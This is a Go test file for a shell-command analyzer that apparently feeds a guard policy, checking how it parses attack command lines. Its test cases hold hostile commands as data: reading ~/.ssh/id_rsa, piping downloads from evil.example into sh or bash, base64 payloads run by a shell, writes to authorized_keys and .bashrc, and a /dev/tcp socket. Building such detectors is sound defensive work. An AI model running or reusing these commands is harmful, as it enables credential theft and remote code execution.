package shellfacts

import (
	"encoding/json"
	"errors"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

type factsCase struct {
	name  string
	cmd   string
	check func(t *testing.T, fx fixture, f *Facts)
}

// attackCases are the command lines of known attacks on shell guards,
// each with the facts that expose it, followed by the controls.
var attackCases = []factsCase{
	{"substitution hides a read", `echo "$(cat ~/.ssh/id_rsa)"`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "cat", "echo")
			wantReason(t, f, reasonCmdSubst)
			cat := command(t, f, "cat")
			wantArgs(t, cat, "~/.ssh/id_rsa")
			if !f.Substitutions || f.Depth != 1 || !slices.Contains(cat.Flags, flagTilde) {
				t.Errorf("substitutions=%v depth=%d flags=%q", f.Substitutions, f.Depth, cat.Flags)
			}
		}},
	{"newline separates commands", "echo ok\nrm -rf /tmp/v",
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "echo", "rm")
			wantArgs(t, command(t, f, "rm"), "-rf", "/tmp/v")
			if f.Lists != 1 {
				t.Errorf("lists = %d, want 1", f.Lists)
			}
		}},
	{"full path", "/usr/bin/sudo id",
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "sudo", "id")
			s := command(t, f, "sudo")
			if s.Name != "/usr/bin/sudo" || !s.Privileged || s.Wrapper != "sudo" || !s.InnerParsed {
				t.Errorf("sudo = %+v", s)
			}
			wantVia(t, command(t, f, "id"), "sudo")
		}},
	{"quoted name", `"sudo" id`,
		func(t *testing.T, fx fixture, f *Facts) {
			s := command(t, f, "sudo")
			if s.Name != "sudo" || s.Resolved != filepath.Join(fx.bin, "sudo") {
				t.Errorf("sudo = %q resolved %q", s.Name, s.Resolved)
			}
		}},
	{"empty quotes inside a name", `r''m -rf x`,
		func(t *testing.T, fx fixture, f *Facts) {
			rm := command(t, f, "rm")
			wantArgs(t, rm, "-rf", "x")
			if rm.Name != "rm" || rm.Resolved != filepath.Join(fx.bin, "rm") {
				t.Errorf("rm = %q resolved %q", rm.Name, rm.Resolved)
			}
			wantStatic(t, f)
		}},
	{"backslash inside a name", `s\udo id`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "sudo", "id")
		}},
	{"ANSI-C quoted name", `$'\x73udo' id`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "sudo", "id")
			wantStatic(t, f)
			if !slices.Contains(command(t, f, "sudo").Flags, flagANSIC) {
				t.Error("ansi_c_quoting not flagged")
			}
		}},
	{"sh -c", `sh -c 'rm -rf x'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "sh", "rm")
			sh := command(t, f, "sh")
			if sh.Wrapper != wrapShellC || !sh.InnerParsed || sh.ResolvedBase != "dash" {
				t.Errorf("sh = %+v", sh)
			}
			wantVia(t, command(t, f, "rm"), wrapShellC)
		}},
	{"decoded payload piped to sh", `echo cm0gLXJmIHgK | base64 -d | sh`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "echo", "base64", "sh")
			sh := command(t, f, "sh")
			wantOpaque(t, sh, wrapShellStdin, "script_from_pipe")
			if !sh.StdinFromPipe || f.Pipelines != 2 || !f.Opaque {
				t.Errorf("stdin_from_pipe=%v pipelines=%d opaque=%v",
					sh.StdinFromPipe, f.Pipelines, f.Opaque)
			}
		}},
	{"cd then make", `cd /w && make deploy`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "cd", "make")
			if f.Lists != 1 || f.ChangesEnvironment || f.Opaque || !command(t, f, "cd").Builtin {
				t.Errorf("lists=%d env=%v opaque=%v", f.Lists, f.ChangesEnvironment, f.Opaque)
			}
		}},
	{"lsof is not ls", `lsof -i`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "lsof")
		}},
	{"ls control", `ls -la`,
		func(t *testing.T, fx fixture, f *Facts) {
			ls := command(t, f, "ls")
			if ls.Resolved != filepath.Join(fx.bin, "ls") || ls.Wrapper != "" || ls.Builtin {
				t.Errorf("ls = %+v", ls)
			}
			wantArgs(t, ls, "-la")
			wantStatic(t, f)
		}},
	{"find -exec sh -c", `find . -maxdepth 1 -name '*.md' -exec sh -c 'touch /s/x' \;`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "find", "sh", "touch")
			wantVia(t, command(t, f, "sh"), wrapFindExec)
			wantVia(t, command(t, f, "touch"), wrapFindExec+" -> "+wrapShellC)
			wantArgs(t, command(t, f, "find"), ".", "-maxdepth", "1", "-name",
				"*.md", "-exec", "sh", "-c", "touch /s/x", ";")
			if f.Depth != 2 {
				t.Errorf("depth = %d", f.Depth)
			}
		}},
	{"grep control", `grep -n TODO notes.txt`,
		func(t *testing.T, _ fixture, f *Facts) {
			g := command(t, f, "grep")
			wantArgs(t, g, "-n", "TODO", "notes.txt")
			if g.Wrapper != "" || g.Opaque || f.Dynamic || len(f.Redirects) != 0 {
				t.Errorf("grep = %+v", g)
			}
		}},
	{"export poisons git", `export GIT_SSH_COMMAND='sh -c "touch x"'; git fetch`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "export", "git")
			if !f.ChangesEnvironment || !slices.Equal(f.Assignments, []string{"GIT_SSH_COMMAND"}) {
				t.Errorf("env=%v assignments=%q", f.ChangesEnvironment, f.Assignments)
			}
			if !command(t, f, "export").Builtin {
				t.Error("export not a builtin")
			}
		}},
	{"inline assignment", `PGPASSWORD=x psql -c 'select 1'`,
		func(t *testing.T, _ fixture, f *Facts) {
			p := command(t, f, "psql")
			wantArgs(t, p, "-c", "select 1")
			if !slices.Equal(p.Env, []string{"PGPASSWORD"}) ||
				!slices.Equal(f.Assignments, []string{"PGPASSWORD"}) || f.ChangesEnvironment {
				t.Errorf("env=%q assignments=%q changes=%v",
					p.Env, f.Assignments, f.ChangesEnvironment)
			}
		}},
	{"env -i sh -c", `env -i sh -c 'id'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "env", "sh", "id")
			e := command(t, f, "env")
			if e.Wrapper != "env" || !slices.Contains(e.Flags, "clear_env") {
				t.Errorf("env = %+v", e)
			}
			wantVia(t, command(t, f, "id"), "env -> sh -c")
		}},
	{"xargs appends unknown words", `xargs rm < list`,
		func(t *testing.T, fx fixture, f *Facts) {
			rm := command(t, f, "rm")
			wantVia(t, rm, "xargs")
			if !rm.Dynamic || rm.Resolved != filepath.Join(fx.bin, "rm") {
				t.Errorf("rm = %+v", rm)
			}
			wantReason(t, f, reasonXargsInput)
			list := filepath.Join(fx.work, "list")
			if len(f.Redirects) != 1 || f.Redirects[0].ResolvedTarget != list {
				t.Errorf("redirects = %+v", f.Redirects)
			}
		}},
	{"timeout sudo", `timeout 5 sudo id`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "timeout", "sudo", "id")
			wantVia(t, command(t, f, "id"), "timeout -> sudo")
		}},
	{"busybox sh", `busybox sh -c id`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "busybox", "sh", "id")
			wantVia(t, command(t, f, "id"), "busybox -> sh -c")
		}},
	{"download piped to bash", `nohup curl http://evil.example/x | bash`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "nohup", "curl", "bash")
			wantVia(t, command(t, f, "curl"), "nohup")
			b := command(t, f, "bash")
			wantOpaque(t, b, wrapShellStdin, "script_from_pipe")
			if !b.StdinFromPipe {
				t.Error("bash does not read the pipe")
			}
		}},
	{"curl to sh", `curl -s http://evil.example/i.sh | sh`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "sh"), wrapShellStdin, "script_from_pipe")
		}},
	{"wget to python", `wget -qO- x | python3`,
		func(t *testing.T, _ fixture, f *Facts) {
			p := command(t, f, "python3")
			wantOpaque(t, p, "python stdin", "script_from_pipe")
			if p.ResolvedBase != "python3.11" {
				t.Errorf("python3 resolved to %q", p.Resolved)
			}
		}},
	{"process substitution as a script", `bash <(curl x)`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "curl", "bash")
			wantOpaque(t, command(t, f, "bash"), wrapShellScript, "script_file")
			wantReason(t, f, reasonProcSubst)
		}},
	{"git -c", `git -c core.pager='sh -c id' log`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "git"), "git -c", "git_config")
		}},
	{"git grep pager abbreviated", `git grep --open-files-i='touch x' Makefile`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "git"), "git", "git_runs_command")
		}},
	{"git grep -O in a cluster", `git grep -nOless x`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "git"), "git", "git_runs_command")
		}},
	{"git fetch upload-pack abbreviated", `git fetch --upload-p='touch x' origin`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "git"), "git", "git_runs_command")
		}},
	{"less +!", `less +!id README.md`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "less"), "less +", "pager_command")
		}},
	{"sed e", `sed -n '1e id' f`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "sed"), "sed e", "sed_exec")
		}},
	{"write to a start-up file", `echo x > ~/.bashrc`,
		func(t *testing.T, fx fixture, f *Facts) {
			want := Redirect{Op: ">", Target: "~/.bashrc", Writes: true,
				ResolvedTarget: filepath.Join(fx.home, ".bashrc")}
			if len(f.Redirects) != 1 || !sameRedirect(f.Redirects[0], want) {
				t.Errorf("redirects = %+v, want %+v", f.Redirects, want)
			}
		}},
	{"append to authorized_keys", `cat f >> .ssh/authorized_keys`,
		func(t *testing.T, fx fixture, f *Facts) {
			want := Redirect{Op: ">>", Target: ".ssh/authorized_keys", Writes: true,
				ResolvedTarget: filepath.Join(fx.work, ".ssh/authorized_keys")}
			if len(f.Redirects) != 1 || !sameRedirect(f.Redirects[0], want) {
				t.Errorf("redirects = %+v, want %+v", f.Redirects, want)
			}
		}},
	{"variable as the name", `$CMD -rf x`,
		func(t *testing.T, _ fixture, f *Facts) {
			c := f.Commands[0]
			if c.Name != "$CMD" || c.Base != "" || !c.Dynamic || c.Resolved != "" {
				t.Errorf("command = %+v", c)
			}
			wantReason(t, f, reasonParam)
		}},
	{"substitution as the name", `$(echo rm) -rf x`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "echo", "$(echo rm)")
			if !f.Commands[1].Dynamic {
				t.Error("name not dynamic")
			}
			wantReason(t, f, reasonCmdSubst)
		}},
	{"glob as the name", `r* -rf x`,
		func(t *testing.T, _ fixture, f *Facts) {
			if c := f.Commands[0]; !c.Dynamic || c.Resolved != "" {
				t.Errorf("command = %+v", c)
			}
			wantReason(t, f, reasonGlobName)
		}},
	{"assigned then expanded", `a=b; $a`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantReason(t, f, reasonParam)
			if !slices.Equal(f.Assignments, []string{"a"}) || !f.ChangesEnvironment {
				t.Errorf("assignments=%q changes=%v", f.Assignments, f.ChangesEnvironment)
			}
		}},
	{"function", `f(){ rm -rf x; }; f`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "rm", "f")
			if !f.FunctionDefs || !slices.Equal(f.Functions, []string{"f"}) ||
				!command(t, f, "f").Function || command(t, f, "rm").Function {
				t.Errorf("facts = %+v", f)
			}
		}},
	{"subshell", `(rm -rf x)`,
		func(t *testing.T, _ fixture, f *Facts) { wantBases(t, f, "rm") }},
	{"group", `{ rm -rf x; }`,
		func(t *testing.T, _ fixture, f *Facts) { wantBases(t, f, "rm") }},
	{"if", `if true; then rm -rf x; fi`,
		func(t *testing.T, _ fixture, f *Facts) { wantBases(t, f, "true", "rm") }},
	{"for", `for i in 1; do rm x; done`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "rm")
			if !slices.Equal(f.Assignments, []string{"i"}) {
				t.Errorf("assignments = %q", f.Assignments)
			}
		}},
	{"background", `echo hi &`,
		func(t *testing.T, _ fixture, f *Facts) {
			if !f.Background {
				t.Error("background not seen")
			}
		}},
	{"duplicate into a pipe", `ls 2>&1 | head`,
		func(t *testing.T, _ fixture, f *Facts) {
			want := Redirect{Op: ">&", Target: "1", Fd: "2"}
			if len(f.Redirects) != 1 || !sameRedirect(f.Redirects[0], want) {
				t.Errorf("redirects = %+v, want %+v", f.Redirects, want)
			}
			if !command(t, f, "head").StdinFromPipe || command(t, f, "ls").StdinFromPipe {
				t.Error("wrong stdin_from_pipe")
			}
		}},
	{"here-document", "cat <<EOF\nhi\nEOF",
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "cat")
			if len(f.Redirects) != 1 || f.Redirects[0].Op != "<<" || f.Redirects[0].Target != "" {
				t.Errorf("redirects = %+v", f.Redirects)
			}
			wantStatic(t, f)
		}},
}

// moreCases cover the wrappers, expansions and builtins beyond the
// handed list.
var moreCases = []factsCase{
	{"link to another program", `sudoedit /etc/hosts`,
		func(t *testing.T, fx fixture, f *Facts) {
			s := command(t, f, "sudoedit")
			sudo := filepath.Join(fx.bin, "sudo")
			if s.ResolvedBase != "sudo" || s.Resolved != sudo || !s.Privileged {
				t.Errorf("sudoedit = %+v", s)
			}
		}},
	{"non-executable file does not resolve", `notes`,
		func(t *testing.T, _ fixture, f *Facts) {
			if r := f.Commands[0].Resolved; r != "" {
				t.Errorf("resolved = %q", r)
			}
		}},
	{"here-document fed to bash", "bash <<'EOF'\nrm -rf x\nEOF",
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "bash", "rm")
			wantVia(t, command(t, f, "rm"), wrapShellStdin)
		}},
	{"substitution in a here-document", "cat <<EOF\n$(rm x)\nEOF",
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "rm", "cat")
			wantReason(t, f, reasonCmdSubst)
		}},
	{"eval of literal words", `eval "r""m x"`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "eval", "rm")
			wantVia(t, command(t, f, "rm"), "eval")
		}},
	{"eval of a variable", `eval "$x"`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "eval"), "eval", reasonDynamicExec)
		}},
	{"sh -c of a variable", `sh -c "$x"`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "sh"), wrapShellC, reasonDynamicExec)
		}},
	{"BASH_ENV runs a file first", `BASH_ENV=/tmp/e bash -c id`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "bash"), wrapShellC, "bash_env")
			wantReason(t, f, reasonCodeVar)
		}},
	{"exported function through env", `env 'BASH_FUNC_ls%%=() { id; }' bash -c ls`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantReason(t, f, reasonExportedFn)
		}},
	{"PATH for one command", `PATH=/tmp:$PATH ls`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantReason(t, f, reasonPath)
		}},
	{"arithmetic on a variable runs its subscripts", `x='a[$(id)]'; echo $((x))`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantReason(t, f, reasonArithmetic)
		}},
	{"constant arithmetic", `echo $((1+2))`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantStatic(t, f)
			wantArgs(t, command(t, f, "echo"), "3")
		}},
	{"brace expansion in arguments", `echo {a,b}`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantStatic(t, f)
			wantArgs(t, command(t, f, "echo"), "a", "b")
		}},
	{"brace expansion in the name", `{rm,x} y`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantReason(t, f, reasonBraceName)
		}},
	{"tilde after an assignment-like word", `echo a=~/x`,
		func(t *testing.T, _ fixture, f *Facts) {
			e := command(t, f, "echo")
			wantArgs(t, e, "a=~/x")
			if !slices.Contains(e.Flags, flagTilde) {
				t.Error("tilde not flagged")
			}
			wantStatic(t, f)
		}},
	{"abbreviated long option", `timeout --sig KILL 5 rm x`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "timeout", "rm")
			wantArgs(t, command(t, f, "rm"), "x")
		}},
	{"nice with a numeric option", `nice -10 rm x`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "nice", "rm")
		}},
	{"find placeholder", `find . -exec rm {} +`,
		func(t *testing.T, _ fixture, f *Facts) {
			rm := command(t, f, "rm")
			wantArgs(t, rm, "{}")
			if !rm.Dynamic {
				t.Error("rm {} not dynamic")
			}
			wantReason(t, f, reasonFindPlace)
		}},
	{"sudo options then sh -c", `sudo -u root -- sh -c 'id'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "sudo", "sh", "id")
			wantVia(t, command(t, f, "id"), "sudo -> sh -c")
		}},
	{"sudo -s without a command", `sudo -s`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "sudo"), "sudo", "script_from_stdin")
		}},
	{"su -c", `su -c 'rm x' root`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "su", "rm")
			wantVia(t, command(t, f, "rm"), "su -c")
		}},
	{"command -v only looks", `command -v git`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "command")
			if w := command(t, f, "command").Wrapper; w != "" {
				t.Errorf("wrapper = %q", w)
			}
		}},
	{"builtin eval", `builtin eval 'rm x'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "builtin", "eval", "rm")
			wantVia(t, command(t, f, "rm"), "builtin -> eval")
		}},
	{"exec runs a program, not a builtin", `exec echo x`,
		func(t *testing.T, fx fixture, f *Facts) {
			e := f.Commands[1]
			if e.Name != "echo" || e.Builtin || e.Resolved != filepath.Join(fx.bin, "echo") {
				t.Errorf("echo = %+v", e)
			}
		}},
	{"exec redirection persists", `exec > log`,
		func(t *testing.T, _ fixture, f *Facts) {
			if !f.ChangesEnvironment || !f.Redirects[0].Writes {
				t.Errorf("facts = %+v", f)
			}
		}},
	{"sed write flag", `sed 's/a/b/w out' f`,
		func(t *testing.T, _ fixture, f *Facts) {
			s := command(t, f, "sed")
			if s.Opaque || !slices.Contains(s.Flags, "sed_write") {
				t.Errorf("sed = %+v", s)
			}
		}},
	{"sed sandbox", `sed --sandbox '1e id' f`,
		func(t *testing.T, _ fixture, f *Facts) {
			if command(t, f, "sed").Opaque {
				t.Error("sandboxed sed is opaque")
			}
		}},
	{"plain sed", `sed -n '/^#/!{s/x/y/g;p}' f`,
		func(t *testing.T, _ fixture, f *Facts) {
			if s := command(t, f, "sed"); s.Opaque || len(s.Flags) != 0 {
				t.Errorf("sed = %+v", s)
			}
		}},
	{"plain awk", `awk '{print $1}' f`,
		func(t *testing.T, _ fixture, f *Facts) {
			if command(t, f, "awk").Opaque {
				t.Error("awk opaque")
			}
			wantStatic(t, f)
		}},
	{"awk system", `awk 'BEGIN{system("id")}'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "awk"), "awk system", "awk_exec")
		}},
	{"python -c", `python3 -c 'print(1)'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "python3"), "python -c", "inline_code")
		}},
	{"python -m", `python3 -m pytest`,
		func(t *testing.T, _ fixture, f *Facts) {
			if p := command(t, f, "python3"); p.Opaque || !slices.Contains(p.Flags, "module") {
				t.Errorf("python3 = %+v", p)
			}
		}},
	{"perl clustered -ne", `perl -ne 'print' f`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "perl"), "perl -e", "inline_code")
		}},
	{"ssh", `ssh host uptime`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "ssh"), "ssh", "remote_command")
		}},
	{"watch runs sh -c", `watch -n 1 'rm x'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "watch", "rm")
			wantVia(t, command(t, f, "rm"), "watch")
		}},
	{"flock -c", `flock /tmp/l -c 'rm x'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "flock", "rm")
			wantVia(t, command(t, f, "rm"), "flock -c")
		}},
	{"trap", `trap 'rm x' EXIT`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "trap", "rm")
			if !f.ChangesEnvironment {
				t.Error("trap does not change the environment")
			}
		}},
	{"alias", `alias ls='rm -rf x'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "alias", "rm")
			wantReason(t, f, reasonAlias)
		}},
	{"cd moves relative redirects", `cd sub && echo > out`,
		func(t *testing.T, fx fixture, f *Facts) {
			if got := f.Redirects[0].ResolvedTarget; got != filepath.Join(fx.work, "sub/out") {
				t.Errorf("resolved = %q", got)
			}
		}},
	{"cd in a subshell does not persist", `(cd sub); echo > out`,
		func(t *testing.T, fx fixture, f *Facts) {
			if got := f.Redirects[0].ResolvedTarget; got != filepath.Join(fx.work, "out") {
				t.Errorf("resolved = %q", got)
			}
		}},
	{"cd to an unknown place", `cd "$D"; echo > out`,
		func(t *testing.T, _ fixture, f *Facts) {
			if r := f.Redirects[0]; r.ResolvedTarget != "" || r.Target != "out" {
				t.Errorf("redirect = %+v", r)
			}
		}},
	{"dynamic redirect target", `echo x > "$F"`,
		func(t *testing.T, _ fixture, f *Facts) {
			if r := f.Redirects[0]; !r.Dynamic || r.Target != "" || !r.Writes {
				t.Errorf("redirect = %+v", r)
			}
			wantReason(t, f, reasonRedirect)
		}},
	{"/dev/null is not a write", `ls > /dev/null 2>&1`,
		func(t *testing.T, _ fixture, f *Facts) {
			for _, r := range f.Redirects {
				if r.Writes {
					t.Errorf("redirect %+v writes", r)
				}
			}
		}},
	{"bash opens a socket", `cat < /dev/tcp/127.0.0.1/9`,
		func(t *testing.T, _ fixture, f *Facts) {
			if !slices.Contains(f.Flags, "network_redirect") {
				t.Errorf("flags = %q", f.Flags)
			}
		}},
	{"export -n is not a name reference", `export -n X`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantStatic(t, f)
			if !slices.Equal(f.Assignments, []string{"X"}) {
				t.Errorf("assignments = %q", f.Assignments)
			}
		}},
	{"let assigns", `let i++ j=2`,
		func(t *testing.T, _ fixture, f *Facts) {
			if !slices.Equal(f.Assignments, []string{"i", "j"}) {
				t.Errorf("assignments = %q", f.Assignments)
			}
		}},
	{"read assigns", `read -r x y`,
		func(t *testing.T, _ fixture, f *Facts) {
			if !slices.Equal(f.Assignments, []string{"x", "y"}) || !f.ChangesEnvironment {
				t.Errorf("assignments = %q", f.Assignments)
			}
		}},
	{"nameref", `declare -n r=PATH`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantReason(t, f, reasonNameref)
		}},
	{"xargs -I into sh -c", `xargs -I{} sh -c 'echo {}'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "sh"), wrapShellC, reasonDynamicExec)
		}},
	{"xargs with no program gets it from input", `xargs nohup`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "xargs", "nohup", "")
			if c := f.Commands[2]; !c.Dynamic || c.Via != "xargs -> nohup" {
				t.Errorf("placeholder = %+v", c)
			}
		}},
	{"process substitution reading a pipe", `tee >(sh)`,
		func(t *testing.T, _ fixture, f *Facts) {
			sh := command(t, f, "sh")
			wantOpaque(t, sh, wrapShellStdin, "script_from_pipe")
		}},
	{"coproc", `coproc rm x`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "rm")
			if !f.Background {
				t.Error("coproc not background")
			}
		}},
	{"arithmetic test on a name", `[[ x -eq 1 ]]`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantReason(t, f, reasonArithmetic)
		}},
	{"zero-width character inside sh -c code", `sh -c $'rm\u200b x'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "sh"), wrapShellC, "invalid_inner_text")
		}},
	{"hash -p", `hash -p /tmp/evil ls; ls`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantReason(t, f, reasonHash)
		}},
	{"shopt expand_aliases", `shopt -s expand_aliases`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantReason(t, f, reasonParserOpt)
		}},
	{"source", `. ./x`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "."), "source", "script_file")
			if !slices.Contains(f.Assignments, "*") {
				t.Errorf("assignments = %q", f.Assignments)
			}
		}},
	{"chroot with no command starts a shell", `chroot /srv`,
		func(t *testing.T, _ fixture, f *Facts) {
			c := command(t, f, "chroot")
			wantOpaque(t, c, "chroot", "script_from_stdin")
			if !c.Privileged {
				t.Error("chroot not privileged")
			}
		}},
	{"git config of an alias", `git config alias.x '!sh'`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "git"), "git -c", "git_config")
		}},
	{"git status", `git status`,
		func(t *testing.T, _ fixture, f *Facts) {
			if g := command(t, f, "git"); g.Opaque || g.Wrapper != "" {
				t.Errorf("git = %+v", g)
			}
		}},
	{"env alone prints", `env FOO=1`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "env")
			if !slices.Equal(f.Assignments, []string{"FOO"}) {
				t.Errorf("assignments = %q", f.Assignments)
			}
		}},
	{"option hidden in a variable", `timeout $OPTS rm x`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "timeout"), "timeout", flagDynWrapArgs)
		}},
	{"parameter default runs a substitution", `: ${x:=$(rm y)}`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantBases(t, f, "rm", ":")
		}},
	{"quoted list expansion still splits", `sudo "$@"`,
		func(t *testing.T, _ fixture, f *Facts) {
			wantOpaque(t, command(t, f, "sudo"), "sudo", flagDynWrapArgs)
		}},
}

func TestAnalyze(t *testing.T) {
	fx := newFixture(t)
	for _, tc := range append(append([]factsCase{}, attackCases...), moreCases...) {
		t.Run(tc.name, func(t *testing.T) {
			f, err := Analyze(tc.cmd, fx.opts())
			if err != nil {
				t.Fatalf("Analyze(%q): %v", tc.cmd, err)
			}
			tc.check(t, fx, f)
		})
	}
}

func TestAnalyzeErrors(t *testing.T) {
	tests := []struct {
		name string
		cmd  string
		opts Options
		want func(t *testing.T, err error)
	}{
		{"zero-width space", "rm\u200b -rf x", Options{}, invalidAt(2, 0x200b)},
		{"ideographic space", "git\u3000push --force", Options{}, invalidAt(3, 0x3000)},
		{"no-break space", "ls\u00a0-la", Options{}, invalidAt(2, 0xa0)},
		{"right-to-left override", "echo \u202egnp.exe", Options{}, invalidAt(5, 0x202e)},
		{"byte order mark", "\ufeffls", Options{}, invalidAt(0, 0xfeff)},
		{"carriage return", "ls\r\nrm x", Options{}, invalidAt(2, '\r')},
		{"escape", "echo \x1b[31m", Options{}, invalidAt(5, 0x1b)},
		{"C1 control", "echo \u0085", Options{}, invalidAt(5, 0x85)},
		{"invalid UTF-8", "echo \xff", Options{}, invalidAt(5, 0xfffd)},
		{"unterminated quote", "echo 'x", Options{}, func(t *testing.T, err error) {
			var pe *ParseError
			if !errors.As(err, &pe) || pe.Line != 1 || pe.Col == 0 {
				t.Errorf("err = %#v, want a ParseError with a position", err)
			}
		}},
		{"missing fi", "if true; then ls", Options{}, func(t *testing.T, err error) {
			var pe *ParseError
			if !errors.As(err, &pe) || !strings.Contains(pe.Msg, "`fi`") {
				t.Errorf("err = %v, want a ParseError naming fi", err)
			}
		}},
		{"message hides quoted input", "[[ a s3cr3t-t0ken b ]]", Options{}, func(t *testing.T, err error) {
			var pe *ParseError
			if !errors.As(err, &pe) || strings.Contains(err.Error(), "s3cr3t") {
				t.Errorf("err = %v, want a ParseError without the input", err)
			}
		}},
		{"heredoc without its end", "cat <<EOF\nx", Options{}, parseError},
		{"too deep", `sh -c 'sh -c "sh -c id"'`, Options{MaxDepth: 2}, limit("depth", 2)},
		{"too many commands", `true; true; true`, Options{MaxCommands: 2}, limit("commands", 2)},
		{"too long", strings.Repeat("x", 65), Options{MaxBytes: 64}, limit("bytes", 64)},
		{"brace bomb", `echo {1..20000}`, Options{}, limit("fields", maxFields)},
		{"deep substitutions", strings.Repeat("$(", 20) + "id" + strings.Repeat(")", 20),
			Options{}, limit("depth", DefaultMaxDepth)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f, err := Analyze(tc.cmd, tc.opts)
			if f != nil {
				t.Errorf("facts returned with error: %+v", f)
			}
			tc.want(t, err)
		})
	}
}

func invalidAt(offset int, r rune) func(*testing.T, error) {
	return func(t *testing.T, err error) {
		t.Helper()
		var ie *InvalidError
		if !errors.As(err, &ie) || ie.Offset != offset || ie.Rune != r {
			t.Errorf("err = %#v, want InvalidError at %d for U+%04X", err, offset, r)
		}
	}
}

func parseError(t *testing.T, err error) {
	t.Helper()
	var pe *ParseError
	if !errors.As(err, &pe) {
		t.Errorf("err = %#v, want a ParseError", err)
	}
}

func limit(name string, max int) func(*testing.T, error) {
	return func(t *testing.T, err error) {
		t.Helper()
		var le *LimitError
		if !errors.As(err, &le) || le.Limit != name || le.Max != max {
			t.Errorf("err = %#v, want LimitError %s %d", err, name, max)
		}
	}
}

// TestJSONShape checks the encoding the policy reads: snake_case keys,
// arrays rather than null, and no wrapper key on plain commands.
func TestJSONShape(t *testing.T) {
	f, err := Analyze("ls -la | head", Options{})
	if err != nil {
		t.Fatal(err)
	}
	raw, err := json.Marshal(f)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]any
	if err := json.Unmarshal(raw, &m); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"commands", "redirects", "assignments",
		"dynamic_reasons", "flags", "functions"} {
		if _, ok := m[k].([]any); !ok {
			t.Errorf("%s = %#v, want an array", k, m[k])
		}
	}
